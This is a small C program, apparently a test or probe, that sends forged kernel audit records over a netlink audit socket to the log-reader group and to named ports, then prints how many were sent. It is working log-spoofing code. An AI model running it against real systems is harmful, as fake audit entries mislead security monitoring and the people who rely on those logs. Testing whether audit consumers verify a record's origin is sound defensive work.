/*
 * Sends what looks like audit records of the kernel to whoever listens: to
 * the group of audit's readers, and to each port that is named.
 *
 *   live_forge [PORT...]
 *
 * Takes CAP_NET_ADMIN. Prints how many were sent.
 */
#include <linux/audit.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char text[] =
	"audit(1795430914.650:1): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=0 a2=0 a3=0 items=0 "
	"ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm=\"forged\" "
	"exe=\"/forged\" key=(null)";

static int send_to(int fd, unsigned port, unsigned groups)
{
	struct {
		struct nlmsghdr head;
		char text[sizeof(text)];
	} message = { .head = { .nlmsg_len = sizeof(message), .nlmsg_type = AUDIT_SYSCALL } };
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port, .nl_groups = groups };

	memcpy(message.text, text, sizeof(text));
	return sendto(fd, &message, sizeof(message), 0, (struct sockaddr *)&to, sizeof(to)) > 0;
}

int main(int argc, char **argv)
{
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT), sent = 0;

	if (fd < 0)
		return 1;
	for (int i = 1; i < argc; i++)
		sent += send_to(fd, (unsigned)strtoul(argv[i], NULL, 10), 0);
	sent += send_to(fd, (unsigned)getpid(), 1u << (AUDIT_NLGRP_READLOG - 1));
	printf("%d\n", sent);
	return 0;
}
